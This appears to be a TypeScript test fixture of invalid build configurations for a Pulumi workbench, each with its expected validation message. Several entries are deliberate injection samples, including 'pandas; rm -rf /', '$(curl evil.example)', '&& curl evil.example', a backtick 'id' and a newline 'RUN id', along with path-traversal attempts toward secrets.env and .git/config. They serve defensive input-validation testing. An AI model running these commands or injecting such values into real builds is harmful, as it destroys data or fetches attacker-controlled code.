/**
 * Bad `apps[].build` configs (issue 17), one problem each with its exact message. Spread into the
 * bad-config table, so the parser test and the no-resource program test cover them too.
 */
import type { BadConfig } from "./badConfigs";
import { rawConfig } from "./fixtures";

const app = (o: Record<string, unknown>) => rawConfig({ apps: [o] });
const BASES = "jupyter, jupyter-pytorch, jupyter-pyspark, kaggle-python, kaggle-r, kaggle-rstudio, rstudio, rstudio-verse, shiny, code-server";
const PIP = (s: string) =>
  `"${s}" is not a pip requirement this workbench accepts; use a name with optional extras and version, e.g. "xgboost==2.1.1" or "transformers[torch]>=4.44" (no spaces, URLs, markers or shell characters)`;

export const badBuildConfigs: BadConfig[] = [
  {
    why: "build: unknown base",
    raw: app({ kind: "custom", port: 8000, build: { from: "zeppelin", packages: ["polars"] } }),
    message: `workbench.apps[0].build.from: "zeppelin" is not a base this workbench knows; use one of ${BASES}`,
  },
  {
    why: "build: custom is no base",
    raw: app({ kind: "custom", port: 8000, build: { from: "custom", packages: ["polars"] } }),
    message: `workbench.apps[0].build.from: "custom" is not a base this workbench knows; use one of ${BASES}`,
  },
  {
    why: "build: a custom app names no base",
    raw: app({ kind: "custom", port: 8000, build: { packages: ["polars"] } }),
    message: `workbench.apps[0].build.from: required for a custom app's build; name the base kind, e.g. from: kaggle-python (one of ${BASES})`,
  },
  {
    why: "build: from differs from the kind",
    raw: app({ kind: "jupyter", build: { from: "kaggle-python", packages: ["polars"] } }),
    message:
      'workbench.apps[0].build.from: "kaggle-python" differs from the app\'s kind jupyter, which decides how the app starts; remove from, or use kind: custom (with port and command) to run another base your own way',
  },
  {
    why: "build: image and build",
    raw: app({ kind: "kaggle-python", image: "gcr.io/kaggle-gpu-images/python:v168", build: { packages: ["polars"] } }),
    message: "workbench.apps[0].build: conflicts with workbench.apps[0].image: an app either runs a published image or builds one; remove image or build",
  },
  {
    why: "build: pip name with a command after it",
    raw: app({ kind: "kaggle-python", build: { packages: ["pandas; rm -rf /"] } }),
    message: `workbench.apps[0].build.packages[0]: ${PIP("pandas; rm -rf /")}`,
  },
  {
    why: "build: pip name with a command substitution",
    raw: app({ kind: "kaggle-python", build: { packages: ["numpy", "$(curl evil.example)"] } }),
    message: `workbench.apps[0].build.packages[1]: ${PIP("$(curl evil.example)")}`,
  },
  {
    why: "build: pip URL",
    raw: app({ kind: "jupyter", build: { packages: ["git+https://example.com/x.git"] } }),
    message: `workbench.apps[0].build.packages[0]: ${PIP("git+https://example.com/x.git")}`,
  },
  {
    why: "build: CRAN name with backticks",
    raw: app({ kind: "kaggle-rstudio", build: { packages: ["dplyr`id`"] } }),
    message:
      'workbench.apps[0].build.packages[0]: "dplyr`id`" is not a CRAN package name; use letters, digits and dots, starting with a letter, e.g. "data.table" (CRAN installs the current version; pin by the image)',
  },
  {
    why: "build: pip version syntax on an R base",
    raw: app({ kind: "rstudio", build: { packages: ["ggplot2==3.5.1"] } }),
    message:
      'workbench.apps[0].build.packages[0]: "ggplot2==3.5.1" is not a CRAN package name; use letters, digits and dots, starting with a letter, e.g. "data.table" (CRAN installs the current version; pin by the image)',
  },
  {
    why: "build: apt name with a second command",
    raw: app({ kind: "jupyter", build: { aptPackages: ["htop && curl evil.example"] } }),
    message:
      'workbench.apps[0].build.aptPackages[0]: "htop && curl evil.example" is not a Debian package name; use lowercase letters, digits, "+", "-" and ".", optionally "=<version>", e.g. "libgdal-dev" or "htop=3.0.5-7build2"',
  },
  {
    why: "build: apt name with a newline",
    raw: app({ kind: "jupyter", build: { aptPackages: ["htop\nRUN id"] } }),
    message:
      'workbench.apps[0].build.aptPackages[0]: "htop\\nRUN id" is not a Debian package name; use lowercase letters, digits, "+", "-" and ".", optionally "=<version>", e.g. "libgdal-dev" or "htop=3.0.5-7build2"',
  },
  {
    why: "build: a package twice",
    raw: app({ kind: "kaggle-python", build: { packages: ["polars", "polars"] } }),
    message: 'workbench.apps[0].build.packages[1]: "polars" is listed twice; remove one',
  },
  {
    why: "build: packages on code-server",
    raw: app({ kind: "code-server", build: { packages: ["black"] } }),
    message:
      "workbench.apps[0].build.packages: the code-server image has no Python or R package manager this workbench drives; install them in your own Dockerfile (build.dockerfile) or list system packages in aptPackages",
  },
  {
    why: "build: Dockerfile outside the project",
    raw: app({ kind: "custom", port: 8000, build: { from: "kaggle-python", dockerfile: "../shared/Dockerfile" } }),
    message: 'workbench.apps[0].build.dockerfile: "../shared/Dockerfile" leaves the project directory; give a path inside it, relative to Pulumi.yaml',
  },
  {
    why: "build: Dockerfile by absolute path",
    raw: app({ kind: "custom", port: 8000, build: { from: "kaggle-python", dockerfile: "/etc/Dockerfile" } }),
    message:
      'workbench.apps[0].build.dockerfile: "/etc/Dockerfile" is an absolute path; give a path inside the project, relative to Pulumi.yaml, e.g. "docker/Dockerfile"',
  },
  {
    why: "build: a listed file outside the project",
    raw: app({ kind: "custom", port: 8000, build: { from: "jupyter", dockerfile: "docker/Dockerfile", files: ["docker/../../secrets.env"] } }),
    message: 'workbench.apps[0].build.files[0]: "docker/../../secrets.env" leaves the project directory; give a path inside it, relative to Pulumi.yaml',
  },
  {
    why: "build: files without a Dockerfile",
    raw: app({ kind: "kaggle-python", build: { packages: ["polars"], files: ["requirements.txt"] } }),
    message: "workbench.apps[0].build.files: only sent with your own Dockerfile (the generated one copies nothing); set build.dockerfile or remove files",
  },
  {
    why: "build: a Dockerfile of one's own on kaggle-rstudio",
    raw: app({ kind: "kaggle-rstudio", build: { dockerfile: "docker/Dockerfile" } }),
    message:
      "workbench.apps[0].build.dockerfile: kaggle-rstudio builds the Dockerfile this package ships; add packages or aptPackages to it, or use kind: custom with from: kaggle-r for a Dockerfile of your own",
  },
  {
    why: "build: a Dockerfile and packages",
    raw: app({ kind: "custom", port: 8000, build: { from: "kaggle-python", dockerfile: "docker/Dockerfile", packages: ["polars"] } }),
    message: "workbench.apps[0].build.dockerfile: your own Dockerfile installs its own packages; move packages and aptPackages into it, or remove dockerfile",
  },
  {
    why: "build: nothing to build",
    raw: app({ kind: "jupyter", build: {} }),
    message: "workbench.apps[0].build: nothing to build; list packages or aptPackages, or set dockerfile (or remove build to run the published image)",
  },
  {
    why: "build: unknown key, the closest suggested",
    raw: app({ kind: "jupyter", build: { pipPackages: ["x"] } }),
    message: 'workbench.apps[0].build.pipPackages: unknown key; did you mean "packages"?',
  },
  {
    why: "build: unknown key, nothing close",
    raw: app({ kind: "jupyter", build: { conda: ["x"] } }),
    message: "workbench.apps[0].build.conda: unknown key; valid keys are from, packages, aptPackages, dockerfile, files",
  },
  // Issue 22: what a build must never send, and what apt would read as an action.
  {
    why: "build: a Dockerfile inside node_modules",
    raw: app({ kind: "custom", port: 8000, build: { from: "jupyter", dockerfile: "node_modules/evil/Dockerfile" } }),
    message: 'workbench.apps[0].build.dockerfile: "node_modules/evil/Dockerfile" is inside node_modules; keep build inputs in the project\'s own directories',
  },
  {
    why: "build: files include .git/config",
    raw: app({ kind: "custom", port: 8000, build: { from: "jupyter", dockerfile: "docker/Dockerfile", files: [".git/config"] } }),
    message:
      'workbench.apps[0].build.files[0]: ".git/config" is inside or is a hidden file or directory (.git: .git, .env, keys); keep build inputs in plain project directories',
  },
  {
    why: "build: files include a stack file",
    raw: app({ kind: "custom", port: 8000, build: { from: "jupyter", dockerfile: "docker/Dockerfile", files: ["stacks/Pulumi.prod.yaml"] } }),
    message:
      'workbench.apps[0].build.files[0]: "stacks/Pulumi.prod.yaml" is a Pulumi project or stack file (it holds the team\'s config and encrypted secrets); keep build inputs apart from them',
  },
  {
    why: "build: the project file itself",
    raw: app({ kind: "custom", port: 8000, build: { from: "jupyter", dockerfile: "docker/Dockerfile", files: ["Pulumi.yaml"] } }),
    message:
      'workbench.apps[0].build.files[0]: "Pulumi.yaml" is a Pulumi project or stack file (it holds the team\'s config and encrypted secrets); keep build inputs apart from them',
  },
  {
    why: "build: apt package ending in - (remove)",
    raw: app({ kind: "jupyter", build: { aptPackages: ["openssh-server-"] } }),
    message:
      'workbench.apps[0].build.aptPackages[0]: "openssh-server-" ends in "-", which apt-get reads as "remove this package"; give the package name alone, e.g. "libgdal-dev"',
  },
];
